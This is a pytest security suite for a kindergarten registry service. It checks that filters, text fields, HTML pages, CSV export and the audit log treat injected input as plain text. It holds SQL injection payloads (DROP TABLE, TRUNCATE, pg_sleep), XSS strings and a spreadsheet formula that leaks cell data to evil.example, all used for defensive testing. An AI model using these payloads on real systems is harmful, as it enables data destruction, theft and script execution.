"""SQL and markup in every filter and every text field: never a 500, never a filter that matches
more than its literal text, text stored and shown back exactly as sent, no markup of ours
reflected unescaped in an HTML page, and nothing else changed."""

from __future__ import annotations

import html
import uuid

import pytest
from sqlalchemy import text

from services.common.db import get_engine
from services.gateway.routes import ROUTES
from tests.helpers import wait_for
from tests.security.conftest import Client, application_body

SQL = [
    "' OR '1'='1",
    "1' OR 1=1 --",
    "'; DROP TABLE registry.organizations; --",
    "1); SELECT pg_sleep(10); --",
    "%' OR '%'='",
    "' UNION SELECT NULL, version() --",
    "\\'; TRUNCATE audit.audit_log; --",
]
MARKUP = [
    '<script>alert("kezek")</script>',
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
]
PAYLOADS = SQL + MARKUP
# what a browser would run if a page echoed it as it is
DANGEROUS = ["<script>alert", "<img src=x", "<svg/onload", "onerror=alert(1)>"]
FILTERED_ROUTES = [r for r in ROUTES if r.kind == "api" and r.method == "GET" and r.query]
PAGES = [r for r in ROUTES if r.kind == "page" and "{" not in r.path]


def counts(system) -> dict[str, int]:
    tables = ("registry.organizations", "registry.groups", "registry.queue_entries",
              "applications.applications", "queue.entries", "allocation.places",
              "allocation.directions", "gateway.accounts")
    with get_engine(system.config["DB_URL"]).connect() as conn:
        return {t: conn.execute(text(f"SELECT count(*) FROM {t}")).scalar() for t in tables}


def client_for(route, system, clients) -> Client:
    return clients[route.roles[0]] if route.roles else Client(system)


@pytest.mark.parametrize("route", FILTERED_ROUTES, ids=lambda r: r.path)
def test_every_filter_takes_injection_as_literal_text_or_refuses_it(route, system, clients):
    client = client_for(route, system, clients)
    before = counts(system)
    for param in route.query:
        for payload in PAYLOADS:
            r = client.get(route.path, params={param.name: payload})
            assert r.status_code in (200, 400, 404), (param.name, payload, r.status_code, r.text)
            body = r.json()
            if r.status_code == 400:
                assert body["error"]["field"] == param.name, (param.name, payload, body)
            elif "items" in body:
                # a filter on the literal text: nothing here is named like that
                assert body["total"] == 0, (param.name, payload, body["total"])
    assert counts(system) == before


def test_path_parameters_refuse_injection(system, clients, world):
    number = world["application_number"]
    for path in (f"/api/v1/organizations/{world['organization_id']} OR 1=1",
                 f"/api/v1/organizations/{world['organization_id']};DROP TABLE x",
                 f"/api/v1/applications/{number}' OR '1'='1",
                 "/api/v1/applications/<script>alert(1)<%2Fscript>",
                 f"/api/v1/directions/{world['direction_number']}'--/decline"):
        r = clients["officer"].get(path) if "decline" not in path else (
            clients["applicant"].post(path))
        assert r.status_code in (400, 404, 405), (path, r.status_code, r.text)
    r = Client(system).get("/api/v1/queue/lookup",
                           params={"application_number": f"{number}' OR '1'='1"})
    assert r.status_code == 400 and r.json()["error"]["field"] == "application_number"


def test_text_fields_store_injection_as_plain_text(system, clients, world):
    officer = clients["officer"]
    tag = uuid.uuid4().hex[:6]
    before = counts(system)
    name = f'{MARKUP[0]} {SQL[2]} {tag}'
    address = f'{MARKUP[1]} {SQL[0]}'
    district = f"{SQL[0]}{MARKUP[2]}{tag}"
    r = officer.post("/api/v1/organizations", {
        "name": name, "address": address, "district": district, "ownership": "private",
        "kind": "nursery", "languages": ["kk"], "monthly_fee_kzt": 1})
    assert r.status_code == 201, r.text
    org = r.json()
    assert (org["name"], org["address"], org["district"]) == (name, address, district)
    r = officer.post(f"/api/v1/organizations/{org['id']}/groups", {
        "name": MARKUP[3] + SQL[1], "group_type": "general", "birth_year": 2022,
        "language": "kk", "capacity": 5})
    assert r.status_code == 201, r.text
    assert r.json()["name"] == MARKUP[3] + SQL[1]
    r = officer.request("PUT", f"/api/v1/organizations/{org['id']}",
                        json_body={"address": SQL[5] + MARKUP[4]})
    assert r.status_code == 200 and r.json()["address"] == SQL[5] + MARKUP[4], r.text

    # read back exactly, from the registry and as CSV
    got = Client(system).get(f"/api/v1/organizations/{org['id']}").json()
    assert (got["name"], got["district"]) == (name, district)
    listed = Client(system).get("/api/v1/organizations", params={"district": district}).json()
    assert [o["id"] for o in listed["items"]] == [org["id"]]
    after = counts(system)
    assert after["registry.organizations"] == before["registry.organizations"] + 1
    assert after["registry.groups"] == before["registry.groups"] + 1
    assert {k: v for k, v in after.items() if not k.startswith("registry.")} == {
        k: v for k, v in before.items() if not k.startswith("registry.")}
    world["injected_organization"] = {"id": org["id"], "name": name, "district": district}


def test_names_in_an_application_are_plain_text_too(system, clients, world):
    parent = system.sign_in(f"+7705{uuid.uuid4().int % 10**7:07d}")
    body = application_body(parent.phone, world["district"], [world["organization_id"]],
                            applicant_name=f"{MARKUP[0]} {SQL[0]}",
                            child_name=f"Тестов {MARKUP[1]} {SQL[3]}")
    body["benefit"] = {"category": SQL[0], "document": MARKUP[0]}
    r = parent.post("/api/v1/applications", body)
    assert r.status_code in (400, 422) and r.json()["error"]["field"] == "benefit.category", r.text
    body["benefit"] = None
    r = parent.post("/api/v1/applications", body)
    assert r.status_code == 201, r.text
    number = r.json()["application_number"]
    mine = parent.get(f"/api/v1/applications/{number}").json()
    assert mine["applicant"]["full_name"] == body["applicant"]["full_name"]
    assert mine["child"]["full_name"] == body["child"]["full_name"]
    # an officer's note and reason are text as well
    r = clients["officer"].post(f"/api/v1/applications/{number}/benefit/verify",
                                {"approved": True, "note": SQL[2] + MARKUP[0]})
    assert r.status_code in (409, 422), r.text  # no benefit was claimed: refused, not a 500
    r = clients["officer"].post("/api/v1/directions/D999999991/revoke",
                                {"reason": SQL[2] + MARKUP[0]})
    assert r.status_code == 404, r.text
    row = wait_for(lambda: (r := Client(system).get(
        "/api/v1/queue/lookup", params={"application_number": number})).ok and r.json(),
        message="the application in the queue registry")
    assert row["applicant_name"].startswith(MARKUP[0].split()[0])
    world["injected_application"] = number


def test_no_page_echoes_markup_unescaped(system, world):
    client = Client(system)
    html_accept = {"Accept": "text/html"}
    pages = []
    for route in PAGES:
        params = {}
        for p in route.query or ():
            params[p.name] = MARKUP[0]
        pages.append((route.path, {"district": MARKUP[0], "application_number": MARKUP[1],
                                   "lang": MARKUP[2], "page": MARKUP[1], **params}))
    injected = world.get("injected_organization")
    if injected:
        pages += [(f"/organizations/{injected['id']}", {}),
                  ("/organizations", {"district": injected["district"]})]
    number = world.get("injected_application")
    if number:
        pages += [("/queue/lookup", {"application_number": number}),
                  ("/queue", {"district": world["district"]})]
    for path, params in pages:
        r = client.get(path, params=params, headers=html_accept)
        assert r.status_code < 500, (path, r.status_code)
        assert r.headers["Content-Type"].startswith("text/html"), path
        for bad in DANGEROUS:
            assert bad not in r.text, (path, params, bad)
    if injected:
        page = client.get(f"/organizations/{injected['id']}", headers=html_accept).text
        assert html.escape(MARKUP[0], quote=False) in page or (
            html.escape(MARKUP[0]) in page), "the name is shown, escaped"


def test_json_answers_are_never_sniffed_as_html(system):
    r = Client(system).get("/api/v1/organizations", params={"district": MARKUP[0]})
    assert r.headers["Content-Type"].startswith("application/json")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    r = Client(system).get("/api/v1/" + MARKUP[0])
    assert r.status_code == 404
    assert r.headers["Content-Type"].startswith("application/json")


def test_spreadsheet_formulas_are_defused_in_csv(system, clients, world):
    formula = f'=HYPERLINK("http://evil.example/"&A1,"x{uuid.uuid4().hex[:4]}")'
    r = clients["officer"].post("/api/v1/organizations", {
        "name": formula, "address": "+1+1", "district": world["district"],
        "ownership": "state", "kind": "kindergarten", "languages": ["kk"]})
    assert r.status_code == 201, r.text
    csv = Client(system).get("/api/v1/organizations",
                             params={"district": world["district"], "format": "csv"}).text
    assert "'=HYPERLINK" in csv
    assert ",=HYPERLINK" not in csv and "\n=HYPERLINK" not in csv


def test_the_audit_log_records_injection_in_headers_literally(system, clients):
    client = Client(system)
    client.fingerprint = f"{SQL[0]}{uuid.uuid4().hex}"
    agent = MARKUP[0] + SQL[2]
    r = client.get("/api/v1/districts", headers={"User-Agent": agent})
    assert r.status_code == 200
    request_id = r.headers["X-Request-Id"]

    def stored():
        rows = clients["auditor"].get("/api/v1/audit", params={
            "fingerprint": client.fingerprint}).json()["items"]
        return rows

    (row,) = wait_for(stored, message="the audit record")
    assert row["request_id"] == request_id and row["user_agent"] == agent
    assert clients["auditor"].get("/api/v1/audit/verify").json()["ok"] is True
